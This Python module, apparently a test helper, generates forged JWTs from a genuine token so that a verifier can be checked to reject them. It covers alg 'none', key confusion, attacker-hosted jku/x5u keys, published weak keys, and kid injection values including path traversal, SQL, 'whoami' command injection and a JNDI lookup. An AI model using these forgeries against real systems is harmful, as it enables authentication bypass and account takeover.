"""The published ways to forge an access token, each made from a genuine one, without its key."""

import base64
import hashlib
import hmac
import json
import uuid
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

Signer = Callable[[bytes], bytes]
DAY_S = 86_400

# Keys that anybody can read: test vectors of this product's documents, the example of RFC 7515 (A.1), what jwt.io and
# tutorials show, and what is put where a key is missing.
PUBLISHED = {
    "no bytes": b"",
    "32 zero bytes": bytes(32),
    "64 zero bytes": bytes(64),
    "the first key of docs/signing.md": bytes(range(32)),
    "the second key of docs/signing.md": bytes(range(32, 64)),
    "the key of RFC 7515": base64.urlsafe_b64decode(
        "AyM1SysPpbyDfgZld3umj1qzKObwVMkoqQ-EstJQLr_T-1qS0gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr1Z9CAow=="
    ),
    **{
        f"the word {word!r}": word.encode()
        for word in (
            "secret",
            "changeme",
            "password",
            "seatrial",
            "key",
            "k1",
            "None",
            "your-256-bit-secret",
            "a-string-secret-at-least-256-bits-long",
            "0123456789abcdef0123456789abcdef",
        )
    },
}

# Key ids that have led verifiers to a key which the attacker knows.
KEY_IDS: tuple[tuple[Any, bytes], ...] = (
    ("no-such-key", b""),
    ("no-such-key", bytes(32)),
    ("", b""),
    (None, b""),
    (None, b"None"),
    ("None", b""),
    (0, b""),
    (["k1"], b""),
    ({"kid": "k1"}, b""),
    ("/dev/null", b""),
    ("../" * 14 + "dev/null", b""),
    ("../" * 14 + "proc/sys/kernel/randomize_va_space", b"2\n"),
    ("file:///dev/null", b""),
    ("https://attacker.example/key", b"key"),
    ("no-such-key' UNION SELECT 'key' -- ", b"key"),
    ("k1\u0000", b""),
    ("k1|whoami", b"root"),
    ("${jndi:ldap://attacker.example/key}", b"key"),
    ("__class__", b""),
    ("x" * 4096, b""),
)


@dataclass(frozen=True)
class Forged:
    """One token that must open nothing, and the attack that it is."""

    attack: str
    token: str

    def __str__(self) -> str:
        return self.attack


class Genuine:
    """A genuine token taken apart."""

    def __init__(self, token: str) -> None:
        self.token = token
        self.head, self.body, self.signature = token.split(".")
        self.header: dict[str, Any] = json.loads(unbase64(self.head))
        self.claims: dict[str, Any] = json.loads(unbase64(self.body))


def forgeries(token: str, other: str, public_keys: Sequence[bytes]) -> list[Forged]:
    """Return every forgery of `token` that is not `token`; `other` is a genuine token of somebody else."""
    mine, theirs = Genuine(token), Genuine(other)
    found = [
        *_unsigned(mine),
        *_confused(mine, public_keys),
        *_with_own_key(mine),
        *_key_ids(mine),
        *_guessed(mine, theirs),
        *_edited_claims(mine, theirs),
        *_edited_headers(mine),
        *_shapes(mine, theirs),
    ]
    return [each for each in found if each.token not in {token, other}]


def stolen_key_tokens(token: str, other: str, key: bytes, now_s: float, tolerance_s: float) -> list[Forged]:
    """Return tokens that the true key signed and whose claims or header must open nothing all the same, by clocks so far apart."""
    mine, theirs = Genuine(token), Genuine(other)
    now, past = int(now_s), int(now_s - tolerance_s) - 5
    edits = {
        name: edit
        for name, edit in _claim_edits(mine, theirs).items()
        if name not in {"more rights", "another subject and session"}  # ignored, and no more than a thief may expect
    }
    edits |= {
        "expired five seconds before what is forgiven": {"exp": past, "iat": past - 100, "nbf": past - 100},
        "valid in half a minute": {"nbf": now + 30 + int(tolerance_s)},
        "no expiry to speak of": {"exp": 2**62},
        "an issuer's prefix": {"iss": str(mine.claims.get("iss"))[:-1]},
        "an audience in capitals": {"aud": str(mine.claims.get("aud")).upper()},
    }
    found = [(f"claims edited: {name}", mine.header, {**mine.claims, **edit}) for name, edit in edits.items()]
    for name in mine.claims:
        left = {each: value for each, value in mine.claims.items() if each != name}
        found.append((f"claims edited: no {name}", mine.header, left))
    for typ in ("JWT", "rt+jwt", None):
        found.append((f"header edited: type {typ}", {**mine.header, "typ": typ}, mine.claims))
    return [Forged(attack, signed(header, claims, _hmac(key))) for attack, header, claims in found]


def signed_by(token: str, key: bytes, **changed: Any) -> str:
    """Return a token with the header and claims of a genuine one but these, by default a second shorter, signed with this key."""
    mine = Genuine(token)
    return signed(mine.header, {**mine.claims, "exp": int(mine.claims["exp"]) - 1, **changed}, _hmac(key))


def signed(header: dict[str, Any], claims: dict[str, Any], sign: Signer) -> str:
    """Return a compact token with this header and these claims."""
    text = f"{_json(header)}.{_json(claims)}"
    return f"{text}.{base64_text(sign(text.encode()))}"


def _unsigned(mine: Genuine) -> Iterator[Forged]:
    """CVE-2015-9235 and CVE-2020-28042: no algorithm, in any spelling, or no signature."""
    for alg in ("none", "None", "NONE", "nOnE", " none", "", None):
        head = _json({**mine.header, "alg": alg})
        yield Forged(f"algorithm {alg!r} without signature", f"{head}.{mine.body}.")
        yield Forged(f"algorithm {alg!r} with the old signature", f"{head}.{mine.body}.{mine.signature}")
    bare = _json({name: value for name, value in mine.header.items() if name != "alg"})
    yield Forged("no algorithm", f"{bare}.{mine.body}.")
    yield Forged("an empty signature", f"{mine.head}.{mine.body}.")
    yield Forged("no third part", f"{mine.head}.{mine.body}")
    yield Forged("half of the signature", f"{mine.head}.{mine.body}.{mine.signature[:22]}")
    yield Forged("a signature of zeros", f"{mine.head}.{mine.body}.{base64_text(bytes(32))}")


def _confused(mine: Genuine, public_keys: Sequence[bytes]) -> Iterator[Forged]:
    """CVE-2016-5431 and CVE-2016-10555: a public key taken for an HMAC key; CVE-2022-21449: a signature of zeros."""
    for index, key in enumerate(public_keys):
        for name in ("sha256", "sha384", "sha512"):
            header = {**mine.header, "alg": f"HS{name[3:]}"}
            yield Forged(f"{header['alg']} by public key {index}", signed(header, mine.claims, _hmac(key, name)))
    for alg, size in (("ES256", 64), ("ES384", 96), ("EdDSA", 64), ("RS256", 256), ("PS256", 256)):
        text = f"{_json({**mine.header, 'alg': alg})}.{mine.body}"
        yield Forged(f"{alg} with zeros", f"{text}.{base64_text(bytes(size))}")
        yield Forged(f"{alg} with the old signature", f"{text}.{mine.signature}")


def _with_own_key(mine: Genuine) -> Iterator[Forged]:
    """CVE-2018-0114: a key in the header, or a place to get it from, all of the attacker's making."""
    rsa_key, ec_key, oct_key = (
        rsa.generate_private_key(65_537, 2048),
        ec.generate_private_key(ec.SECP256R1()),
        b"k" * 32,
    )
    rsa_sign = _rsa(rsa_key)
    numbers, point = rsa_key.public_key().public_numbers(), ec_key.public_key().public_numbers()
    jwks: dict[str, tuple[dict[str, str], Signer]] = {
        "HS256": ({"kty": "oct", "k": base64_text(oct_key)}, _hmac(oct_key)),
        "RS256": ({"kty": "RSA", "n": _number(numbers.n, 256), "e": "AQAB"}, rsa_sign),
        "ES256": ({"kty": "EC", "crv": "P-256", "x": _number(point.x, 32), "y": _number(point.y, 32)}, _ec(ec_key)),
    }
    for alg, (jwk, sign) in jwks.items():
        for kid in (mine.header.get("kid"), "attacker", None):
            header = {**mine.header, "alg": alg, "kid": kid, "jwk": {**jwk, "kid": kid, "alg": alg, "use": "sig"}}
            yield Forged(f"{alg} by an embedded jwk, kid {kid!r}", signed(header, mine.claims, sign))
    for name in ("jku", "x5u"):
        header = {**mine.header, "alg": "RS256", "kid": "attacker", name: "https://attacker.example/keys.json"}
        yield Forged(f"RS256 by a key at {name}", signed(header, mine.claims, rsa_sign))
    yield Forged("RS256 by a foreign key", signed({**mine.header, "alg": "RS256"}, mine.claims, rsa_sign))
    yield Forged("HS256 by a foreign key", signed(mine.header, mine.claims, _hmac(uuid.uuid4().bytes * 2)))


def _key_ids(mine: Genuine) -> Iterator[Forged]:
    """Key ids that are paths, queries, commands or of another type (PortSwigger, "JWT header parameter injections")."""
    for kid, key in KEY_IDS:
        shown = repr(kid)[:60]
        yield Forged(f"key id {shown} with key {key!r}", signed({**mine.header, "kid": kid}, mine.claims, _hmac(key)))
    bare = {name: value for name, value in mine.header.items() if name != "kid"}
    yield Forged("no key id and an empty key", signed(bare, mine.claims, _hmac(b"")))


def _guessed(mine: Genuine, theirs: Genuine) -> Iterator[Forged]:
    """Keys that can be read somewhere, as dictionaries of them are tried (RFC 8725, section 2.2)."""
    # A second shorter than the genuine one: with the right key the same claims would be the genuine token again.
    claims = [{**each.claims, "exp": int(each.claims.get("exp", 0)) - 1} for each in (mine, theirs)]
    for name, key in PUBLISHED.items():
        yield Forged(f"a published key, {name}", signed(mine.header, claims[0], _hmac(key)))
        yield Forged(f"a published key, {name}, for somebody else", signed(mine.header, claims[1], _hmac(key)))
        unknown = {**mine.header, "kid": "seatrial-unknown"}
        yield Forged(f"a published key, {name}, under an unknown key id", signed(unknown, claims[0], _hmac(key)))


def _claim_edits(mine: Genuine, theirs: Genuine) -> dict[str, dict[str, Any]]:
    now = int(mine.claims.get("iat", 0))
    return {
        "prolonged": {"exp": now + DAY_S},
        "endless": {"exp": 253_402_300_799},
        "expired": {"exp": now - DAY_S, "iat": now - 2 * DAY_S, "nbf": now - 2 * DAY_S},
        "not valid yet": {"nbf": now + DAY_S, "exp": now + 2 * DAY_S},
        "issued in the future": {"iat": now + DAY_S},
        "another audience": {"aud": "another-api"},
        "a second audience": {"aud": [mine.claims.get("aud"), "another-api"]},
        "another issuer": {"iss": "https://attacker.example"},
        "another subject": {"sub": theirs.claims.get("sub")},
        "another session": {"sid": theirs.claims.get("sid")},
        "another subject and session": {"sub": theirs.claims.get("sub"), "sid": theirs.claims.get("sid")},
        "a nobody": {"sub": str(uuid.uuid4())},
        "a query for a subject": {"sub": "' or '1'='1"},
        "more rights": {"admin": True, "scope": "admin", "role": "admin"},
        "an expiry that is text": {"exp": str(now + DAY_S)},
        "an expiry that is a list": {"exp": [now + DAY_S]},
    }


def _edited_claims(mine: Genuine, theirs: Genuine) -> Iterator[Forged]:
    """Claims that were changed under the old signature: whoever reads them before verifying, or instead, is caught."""
    for name, edit in _claim_edits(mine, theirs).items():
        claims = {**mine.claims, **edit}
        yield Forged(f"claims edited: {name}", f"{mine.head}.{_json(claims)}.{mine.signature}")
    for name in mine.claims:
        claims = {key: value for key, value in mine.claims.items() if key != name}
        yield Forged(f"claims edited: no {name}", f"{mine.head}.{_json(claims)}.{mine.signature}")
    twice = json.dumps({"sub": theirs.claims.get("sub")})[:-1] + ", " + json.dumps(mine.claims)[1:]
    yield Forged("claims edited: a subject twice", f"{mine.head}.{base64_text(twice.encode())}.{mine.signature}")
    for name, body in (("nothing", b""), ("an empty object", b"{}"), ("a list", b"[]"), ("no JSON", b"\xff\xfe")):
        yield Forged(f"claims edited: {name}", f"{mine.head}.{base64_text(body)}.{mine.signature}")


def _edited_headers(mine: Genuine) -> Iterator[Forged]:
    edits: dict[str, dict[str, Any]] = {
        "another type": {"typ": "JWT"},
        "an unknown critical extension": {"crit": ["seatrial"], "seatrial": True},
        "a payload that is not encoded": {"b64": False, "crit": ["b64"]},
        "compressed": {"zip": "DEF"},
        "a token inside": {"cty": "JWT"},
        "HS512": {"alg": "HS512"},
        "small letters": {"alg": "hs256"},
        "an algorithm that is a list": {"alg": ["HS256"]},
    }
    for name, edit in edits.items():
        yield Forged(f"header edited: {name}", f"{_json({**mine.header, **edit})}.{mine.body}.{mine.signature}")
    for name, head in (("nothing", b""), ("a list", b"[]"), ("null", b"null"), ("no JSON", b"\xff\xfe")):
        yield Forged(f"header edited: {name}", f"{base64_text(head)}.{mine.body}.{mine.signature}")


def _shapes(mine: Genuine, theirs: Genuine) -> Iterator[Forged]:
    """Parts of two genuine tokens, and other serialisations: CVE-2022-39227 mixed the compact and the JSON form."""
    yield Forged("the claims of another token", f"{mine.head}.{theirs.body}.{mine.signature}")
    yield Forged("the signature of another token", f"{mine.head}.{mine.body}.{theirs.signature}")
    fake = _json({**mine.claims, "sub": theirs.claims.get("sub")})
    genuine = {"protected": mine.head, "payload": mine.body, "signature": mine.signature}
    mixed = f'{{"  {mine.head}.{fake}.":"",{json.dumps(genuine)[1:]}'
    yield Forged("compact and JSON form mixed", mixed)
    yield Forged("JSON form", json.dumps({**genuine, "payload": fake}))
    yield Forged("five parts", f"{_json({'alg': 'dir', 'enc': 'A256GCM'})}..{mine.head}.{mine.body}.{mine.signature}")
    yield Forged("a fourth part", f"{mine.token}.{mine.signature}")
    yield Forged("forged claims before the token", f"{mine.head}.{fake}.{mine.token}")
    yield Forged("only dots", "..")


def _hmac(key: bytes, name: str = "sha256") -> Signer:
    return lambda text: hmac.new(key, text, getattr(hashlib, name)).digest()


def _rsa(key: rsa.RSAPrivateKey) -> Signer:
    return lambda text: key.sign(text, padding.PKCS1v15(), hashes.SHA256())


def _ec(key: ec.EllipticCurvePrivateKey) -> Signer:
    def sign(text: bytes) -> bytes:
        r, s = decode_dss_signature(key.sign(text, ec.ECDSA(hashes.SHA256())))
        return r.to_bytes(32, "big") + s.to_bytes(32, "big")

    return sign


def _number(value: int, size: int) -> str:
    return base64_text(value.to_bytes(size, "big"))


def _json(value: Any) -> str:
    return base64_text(json.dumps(value, separators=(",", ":")).encode())


def base64_text(data: bytes) -> str:
    """Encode as tokens do: base64url without padding."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unbase64(text: str) -> bytes:
    """Decode base64url without padding."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
